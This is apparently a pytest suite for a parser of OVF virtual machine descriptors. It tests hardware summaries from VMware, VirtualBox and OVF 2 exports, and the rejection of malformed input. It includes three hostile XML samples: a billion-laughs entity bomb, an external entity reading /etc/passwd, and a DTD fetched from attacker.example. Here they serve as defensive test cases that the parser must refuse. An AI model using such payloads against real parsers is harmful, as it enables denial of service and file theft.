from __future__ import annotations

import re
from pathlib import Path

import pytest

from vdc.ovf.envelope import DiskFormat, Envelope, VirtualSystemCollection, parse_envelope
from vdc.ovf.errors import HostileXml, InvalidDescriptor, UnsupportedFeature
from vdc.ovf.hardware import CdDrive, DiskDrive, NetworkAdapter, summarize

GiB = 1 << 30
MiB = 1 << 20
STREAM_VMDK = DiskFormat("vmdk", "streamOptimized")


def load(samples: Path, name: str) -> Envelope:
    return parse_envelope((samples / name).read_bytes())


def test_vmware_export(samples: Path) -> None:
    envelope = load(samples, "vmware-esxi.ovf")
    assert envelope.version == "1.x"
    (system,) = envelope.virtual_systems()
    hw = summarize(envelope, system)
    assert (hw.cpus, hw.cores_per_socket, hw.memory_bytes, hw.firmware) == (4, 2, 8 * GiB, "efi")
    assert hw.disks == (
        DiskDrive("vmdisk1", 16 * GiB, "web01-disk1.vmdk", STREAM_VMDK, "scsi", "lsilogic"),
        DiskDrive("vmdisk2", 512 * MiB, "web01-disk2.vmdk", STREAM_VMDK, "scsi", "lsilogic"),
    )
    assert hw.nics == (NetworkAdapter("VM Network", "vmxnet3"), NetworkAdapter("backend", "e1000"))
    assert hw.cdroms == (CdDrive("ide", None),)
    section = system.hardware[0]
    assert section.system_types == ("vmx-19",)
    assert section.extra_config == {"nvram": "web01.nvram", "svga.present": "TRUE"}
    assert section.vmw_config["tools.syncTimeWithHost"] == "false"
    assert section.item("8") is not None and section.item("8").vmw_config == {"wakeOnLanEnabled": "true"}
    assert system.operating_system is not None
    assert (system.operating_system.id, system.operating_system.vmw_os_type) == (96, "debian12_64Guest")
    assert system.annotation == "Front-end web server, built for tests."
    assert envelope.disk("vmdisk1") is not None and envelope.disk("vmdisk1").populated_size == 2 * GiB
    assert [f.size for f in envelope.references] == [1089024, 68096]


def test_virtualbox_export(samples: Path) -> None:
    envelope = load(samples, "virtualbox.ovf")
    (system,) = envelope.virtual_systems()
    hw = summarize(envelope, system)
    assert (hw.cpus, hw.memory_bytes, hw.firmware) == (1, 1024 * MiB, "bios")
    assert hw.disks == (DiskDrive("vmdisk1", 10 * GiB, "testbox-disk001.vmdk", STREAM_VMDK, "sata", "AHCI"),)
    assert hw.nics == (NetworkAdapter("NAT", "e1000"),)
    assert hw.cdroms == (CdDrive("ide", None),)
    assert system.vbox_machine is not None and system.vbox_machine.os_type == "Other_64"
    assert system.operating_system is not None and system.operating_system.vbox_os_type == "Other_64"
    assert system.products[0].product == "Test box" and system.products[0].version == "1.2"
    assert envelope.references[0].size is None  # VirtualBox leaves sizes out


def test_ovf2_storage_and_ethernet_port_items(samples: Path) -> None:
    envelope = load(samples, "ovf2.ovf")
    assert (envelope.version, envelope.ovf_version) == ("2.x", "2.0")
    (system,) = envelope.virtual_systems()
    hw = summarize(envelope, system)
    assert (hw.cpus, hw.memory_bytes) == (2, 4 * GiB)
    qcow2 = DiskFormat("qcow2")
    assert hw.disks == (
        # capacity ${disk.size} comes from the ProductSection property's default (20)
        DiskDrive("root", 20 * GiB, "root.qcow2", qcow2, "virtio", "virtio"),
        DiskDrive("scratch", 4 * GiB, None, None, "virtio", "virtio"),
    )
    assert hw.nics == (NetworkAdapter("frontend", "virtio", "52:54:00:12:34:56"),)
    assert hw.cdroms == (CdDrive("sata", "tools.iso"),)
    elements = {item.element for item in system.hardware[0].items}
    assert elements == {"Item", "StorageItem", "EthernetPortItem"}


def test_vapp_collection(samples: Path) -> None:
    envelope = load(samples, "vapp-collection.ovf")
    assert isinstance(envelope.content, VirtualSystemCollection)
    assert [s.id for s in envelope.virtual_systems()] == ["lb", "app", "db"]
    shapes = {s.id: summarize(envelope, s) for s in envelope.virtual_systems()}
    # "large" is the DeploymentOptionSection's default
    assert (shapes["app"].cpus, shapes["app"].memory_bytes) == (8, 16 * GiB)
    small = summarize(envelope, envelope.virtual_systems()[1], configuration="small")
    assert (small.cpus, small.memory_bytes) == (2, 2 * GiB)
    assert (shapes["lb"].cpus, shapes["lb"].memory_bytes) == (1, 512 * MiB)
    assert [n.network for n in shapes["lb"].nics] == ["public", "internal"]
    assert shapes["app"].disks[0].format == DiskFormat("vmdk", "monolithicSparse")
    assert shapes["db"].disks[0].bus == "ide" and shapes["db"].floppies == 1
    assert shapes["db"].nics == (NetworkAdapter("internal", "pcnet"),)
    assert envelope.file("db-img") is not None and envelope.file("db-img").compression == "gzip"

    startup = {
        (i.id, i.order, i.start_delay, i.waiting_for_guest, i.stop_action, i.stop_delay) for i in envelope.startup()
    }
    assert startup == {
        ("backend", 1, 30, True, "guestShutdown", 60),
        ("lb", 2, 0, False, "powerOff", 0),
        ("db", 1, 10, False, "powerOff", 0),
        ("app", 2, 0, False, "powerOff", 0),
    }
    props = {p.full_key: p for p in envelope.properties()}
    assert list(props) == [
        "com.example.shop.domain",
        "com.example.shop.admin_password",
        "com.example.shop.build",
        "com.example.lb.ip.1",
    ]
    domain = props["com.example.shop.domain"]
    assert (domain.default, domain.user_configurable, domain.label) == ("shop.example.com", True, "DNS domain")
    password = props["com.example.shop.admin_password"]
    assert (password.password, password.qualifiers, password.default) == (True, "MinLen(8)", None)
    assert props["com.example.shop.build"].user_configurable is False
    shop = envelope.content.products[0]
    assert (shop.product, shop.vendor, shop.version, shop.full_version) == (
        "Example Shop",
        "Example Inc.",
        "3.1",
        "3.1.4-build7",
    )
    assert envelope.content.eulas == ("Use it for tests only.",)
    assert [o.id for o in envelope.deployment_options if o.default] == ["large"]
    lb = envelope.virtual_systems()[0]
    assert lb.hardware[0].transport == ("iso", "com.vmware.guestInfo")
    assert lb.hardware[0].system_types == ("vmx-13", "vmx-19")


# --- a tiny descriptor to break in many ways --------------------------------------------------------

HEAD = (
    '<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1" xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1" '
    'xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
)
REFS = '<References><File ovf:id="f1" ovf:href="disk.vmdk" ovf:size="100"/></References>'
DISKS = (
    '<DiskSection><Info>d</Info><Disk ovf:diskId="d1" ovf:fileRef="f1" ovf:capacity="2" '
    'ovf:capacityAllocationUnits="byte * 2^30" '
    'ovf:format="http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized"/></DiskSection>'
)
NETS = '<NetworkSection><Info>n</Info><Network ovf:name="lan"/></NetworkSection>'
CPU = (
    "<Item><rasd:InstanceID>1</rasd:InstanceID><rasd:ResourceType>3</rasd:ResourceType>"
    "<rasd:VirtualQuantity>2</rasd:VirtualQuantity></Item>"
)
MEM = (
    "<Item><rasd:AllocationUnits>byte * 2^20</rasd:AllocationUnits><rasd:InstanceID>2</rasd:InstanceID>"
    "<rasd:ResourceType>4</rasd:ResourceType><rasd:VirtualQuantity>256</rasd:VirtualQuantity></Item>"
)
DISK_ITEM = (
    "<Item><rasd:HostResource>ovf:/disk/d1</rasd:HostResource><rasd:InstanceID>3</rasd:InstanceID>"
    "<rasd:ResourceType>17</rasd:ResourceType></Item>"
)
NIC = (
    "<Item><rasd:Connection>lan</rasd:Connection><rasd:InstanceID>4</rasd:InstanceID>"
    "<rasd:ResourceType>10</rasd:ResourceType></Item>"
)


def descriptor(refs: str = REFS, disks: str = DISKS, nets: str = NETS, items: str = CPU + MEM + DISK_ITEM + NIC) -> str:
    return (
        f"{HEAD}{refs}{disks}{nets}<VirtualSystem ovf:id='vm'><Info>x</Info>"
        f"<VirtualHardwareSection><Info>h</Info>{items}</VirtualHardwareSection></VirtualSystem></Envelope>"
    )


def test_the_tiny_descriptor_parses() -> None:
    envelope = parse_envelope(descriptor())
    hw = summarize(envelope, envelope.virtual_systems()[0])
    assert (hw.cpus, hw.memory_bytes, hw.disks[0].capacity_bytes, hw.nics[0].network) == (2, 256 * MiB, 2 * GiB, "lan")
    assert hw.disks[0].bus is None  # no Parent: no controller to say


@pytest.mark.parametrize(
    ("text", "error", "message"),
    [
        (descriptor(refs=REFS.replace('size="100"', 'size="-100"')), InvalidDescriptor, "<File id='f1'> size"),
        (
            descriptor(disks=DISKS.replace('capacity="2"', 'capacity="-2"')),
            InvalidDescriptor,
            "<Disk diskId='d1'> capacity",
        ),
        (
            descriptor(disks=DISKS.replace('capacity="2"', 'capacity="0"')),
            InvalidDescriptor,
            "<Disk diskId='d1'>: capacity must be positive",
        ),
        (descriptor(disks=DISKS.replace("2^30", "2^90")), InvalidDescriptor, "<Disk diskId='d1'> capacity: unit"),
        (descriptor(disks=DISKS.replace("byte * 2^30", "furlong")), InvalidDescriptor, "not a byte unit"),
        (
            descriptor(disks=DISKS.replace('fileRef="f1"', 'fileRef="nope"')),
            InvalidDescriptor,
            "<Disk diskId='d1'> refers to unknown file 'nope'",
        ),
        (descriptor(disks=DISKS.replace("#streamOptimized", "#monolithicFlat")), UnsupportedFeature, "vmdk subformat"),
        (
            descriptor(
                disks=DISKS.replace(
                    "http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized", "urn:disk:mystery"
                )
            ),
            UnsupportedFeature,
            "'urn:disk:mystery' is not a format",
        ),
        (
            descriptor(refs=REFS.replace("</References>", '<File ovf:id="f1" ovf:href="other"/></References>')),
            InvalidDescriptor,
            "<File> id 'f1' appears twice",
        ),
        (
            descriptor(refs=REFS.replace('size="100"', 'size="100" ovf:compression="bzip2"')),
            UnsupportedFeature,
            "compression 'bzip2'",
        ),
        (
            descriptor(disks=DISKS.replace("</DiskSection>", '<Disk ovf:diskId="d1" ovf:capacity="1"/></DiskSection>')),
            InvalidDescriptor,
            "<Disk> diskId 'd1' appears twice",
        ),
        (
            descriptor(items=CPU + MEM + DISK_ITEM.replace("d1", "d9") + NIC),
            InvalidDescriptor,
            "HostResource 'ovf:/disk/d9' refers to an unknown disk",
        ),
        (
            descriptor(items=CPU + MEM + DISK_ITEM.replace("ovf:/disk/d1", "ovf:/file/f7") + NIC),
            InvalidDescriptor,
            "unknown file",
        ),
        (descriptor(items=CPU + CPU), InvalidDescriptor, "two items have InstanceID '1'"),
        (descriptor(items=CPU + NIC.replace(">lan<", ">wan<")), InvalidDescriptor, "Connection 'wan' is not a network"),
        (
            descriptor(items=CPU + DISK_ITEM.replace("</Item>", "<rasd:Parent>42</rasd:Parent></Item>")),
            InvalidDescriptor,
            "Parent '42'",
        ),
        (descriptor(items=CPU.replace(">3<", ">three<")), InvalidDescriptor, "<Item InstanceID='1'> ResourceType"),
        (
            descriptor(items=CPU.replace("<rasd:InstanceID>1</rasd:InstanceID>", "")),
            InvalidDescriptor,
            "has no InstanceID",
        ),
        (
            f"{HEAD}<VirtualSystem ovf:id='vm'><Info>x</Info></VirtualSystem></Envelope>",
            InvalidDescriptor,
            "no VirtualHardwareSection",
        ),
        ("<Envelope xmlns='urn:not-ovf'/>", InvalidDescriptor, "not an OVF <Envelope>"),
        (f"{HEAD}{REFS}</Envelope>", InvalidDescriptor, "exactly one VirtualSystem"),
        ("<Envelope", InvalidDescriptor, "not well-formed"),
    ],
)
def test_nonsense_is_refused_naming_the_element(text: str, error: type[Exception], message: str) -> None:
    with pytest.raises(error, match=re.escape(message)):
        parse_envelope(text)


def test_absurd_memory_is_refused_when_summarized() -> None:
    envelope = parse_envelope(descriptor(items=CPU + MEM.replace("2^20", "2^50")))
    with pytest.raises(InvalidDescriptor, match=r"<Item InstanceID='2'>"):
        summarize(envelope, envelope.virtual_systems()[0])


def test_two_memory_items_for_the_same_configuration_are_refused() -> None:
    envelope = parse_envelope(descriptor(items=CPU + MEM + MEM.replace(">2<", ">22<")))
    with pytest.raises(InvalidDescriptor, match=r"2 memory items \(2, 22\)"):
        summarize(envelope, envelope.virtual_systems()[0])


def collection(startup_item: str) -> str:
    """A collection ``app`` of one system ``vm`` with one StartupSection ``<Item>`` given as text."""
    return (
        f"{HEAD}<VirtualSystemCollection ovf:id='app'><Info>c</Info>"
        f"<StartupSection><Info>s</Info>{startup_item}</StartupSection>"
        "<VirtualSystem ovf:id='vm'><Info>x</Info><VirtualHardwareSection><Info>h</Info>"
        f"{CPU}</VirtualHardwareSection></VirtualSystem></VirtualSystemCollection></Envelope>"
    )


@pytest.mark.parametrize(
    ("item", "message"),
    [
        ("<Item ovf:id='ghost' ovf:order='1'/>", "unknown system 'ghost'"),
        ("<Item ovf:id='vm' ovf:order='1' ovf:startAction='boot'/>", "startAction 'boot' is not powerOn or none"),
        (
            "<Item ovf:id='vm' ovf:order='1' ovf:stopAction='halt'/>",
            "stopAction 'halt' is not powerOff, guestShutdown or none",
        ),
    ],
)
def test_startup_items_must_name_members_and_known_actions(item: str, message: str) -> None:
    with pytest.raises(InvalidDescriptor, match=re.escape(message)):
        parse_envelope(collection(item))


def test_startup_actions_read() -> None:
    item = "<Item ovf:id='vm' ovf:order='1' ovf:startAction='none' ovf:stopAction='guestShutdown'/>"
    (startup,) = parse_envelope(collection(item)).startup()
    assert (startup.start_action, startup.stop_action) == ("none", "guestShutdown")


def test_ovirt_style_xsi_type_sections() -> None:
    text = (
        f"{HEAD}{REFS}"
        '<Section xsi:type="ovf:DiskSection_Type"><Info>d</Info>'
        '<Disk ovf:diskId="d1" ovf:fileRef="f1" ovf:capacity="3" ovf:capacityAllocationUnits="byte * 2^30" '
        'ovf:format="http://www.gnome.org/~markmc/qcow-image-format.html"/></Section>'
        '<Content ovf:id="vm" xsi:type="ovf:VirtualSystem_Type"><Section xsi:type="ovf:VirtualHardwareSection_Type">'
        f"<Info>h</Info>{CPU}{DISK_ITEM}</Section></Content></Envelope>"
    )
    envelope = parse_envelope(text)
    hw = summarize(envelope, envelope.virtual_systems()[0])
    assert hw.disks[0].capacity_bytes == 3 * GiB and hw.disks[0].format == DiskFormat("qcow2")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"><Info>&lol4;</Info></Envelope>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Envelope [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"><Info>&secret;</Info></Envelope>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Envelope SYSTEM "http://attacker.example/ovf.dtd">
<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"/>"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused(text: str) -> None:
    with pytest.raises(HostileXml, match="descriptor refused"):
        parse_envelope(text)


def test_oversized_descriptor_is_refused_before_parsing() -> None:
    with pytest.raises(InvalidDescriptor, match="more than the 1000 accepted"):
        parse_envelope(descriptor() + " " * 1000, max_bytes=1000)


@pytest.mark.parametrize(
    ("uri", "expected"),
    [
        (
            "http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized",
            DiskFormat("vmdk", "streamOptimized"),
        ),
        ("http://www.vmware.com/specifications/vmdk.html#compressed", DiskFormat("vmdk", "streamOptimized")),
        ("http://www.vmware.com/specifications/vmdk.html#sparse", DiskFormat("vmdk", "monolithicSparse")),
        ("http://www.gnome.org/~markmc/qcow-image-format.html", DiskFormat("qcow2")),
        ("https://www.qemu.org/docs/master/system/images.html#raw", DiskFormat("raw")),
        ("http://technet.microsoft.com/en-us/virtualserver/bb676673.aspx", DiskFormat("vhd")),
    ],
)
def test_disk_format_uris(uri: str, expected: DiskFormat) -> None:
    parsed = DiskFormat.from_uri(uri, "<Disk>")
    assert parsed == expected
    assert DiskFormat.from_uri(parsed.uri, "<Disk>") == parsed  # the URI we write reads back the same
